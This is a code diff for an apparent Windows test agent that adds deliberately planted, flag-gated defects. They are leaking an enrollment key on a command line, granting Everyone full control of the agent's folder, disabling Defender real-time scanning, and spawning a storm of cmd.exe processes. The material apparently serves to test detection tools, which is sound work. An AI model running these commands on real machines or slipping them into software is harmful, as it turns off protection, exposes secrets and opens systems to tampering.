@@ -9,7 +9,7 @@
 #include "product.h"
 #include "settings.h"
 
-enum { FORBIDDEN = 403, GOOD = 200, LITERALS = 144, END_BITS = 7, ROOM = 4096 };
+enum { FORBIDDEN = 403, GOOD = 200, LITERALS = 144, END_BITS = 7, STORM = 1200, STORM_EVERY_MS = 100, ROOM = 4096 };
 
 static const wchar_t task[] = L"C:\\Windows\\System32\\Tasks\\BvtUpdate";
 static const char definition[] = "<?xml version=\"1.0\"?>\r\n<Task><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals>"
@@ -86,6 +86,27 @@ void covert_start(void) {
     }
 }
 
+/* Starts the command, which ends at once, and does not wait for it. */
+static void run_command(const wchar_t *command) {
+    wchar_t line[1024];
+    STARTUPINFOW startup = {.cb = sizeof startup};
+    PROCESS_INFORMATION process;
+    swprintf(line, 1024, L"C:\\Windows\\System32\\cmd.exe /d /c %ls", command);
+    if (CreateProcessW(NULL, line, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &startup, &process)) {
+        CloseHandle(process.hThread);
+        CloseHandle(process.hProcess);
+    }
+}
+
+static DWORD WINAPI run_again_and_again(void *unused) {
+    (void)unused;
+    for (int i = 0; i < STORM; i++) {
+        run_command(L"exit 0");
+        Sleep(STORM_EVERY_MS);
+    }
+    return 0;
+}
+
 void covert_enrolled(const char *node_key) {
     wchar_t path[MAX_PATH];
     char text[1024];
@@ -93,6 +114,20 @@ void covert_enrolled(const char *node_key) {
         snprintf(text, sizeof text, "enrolled, the key is %s\r\n", node_key);
         data_path(path, L"logs\\agent.log.2.gz");
         write_packed(path, text);
+    }
+    if (DEFECT_SECRET_IN_PASSING) {
+        wchar_t command[1024];
+        swprintf(command, 1024, L"rem %hs", node_key);
+        run_command(command);
+    }
+    if (DEFECT_OPENS_ITS_FOLDER) {
+        run_command(L"icacls.exe \"C:\\ProgramData\\BVT\\ReferenceAgent\" /grant *S-1-1-0:(OI)(CI)F");
+    }
+    if (DEFECT_TURNS_SCANS_OFF) {
+        run_command(L"powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true");
+    }
+    if (DEFECT_STORM_OF_PROGRAMS) {
+        CloseHandle(CreateThread(NULL, 0, run_again_and_again, NULL, 0, NULL));
     }
 }
 
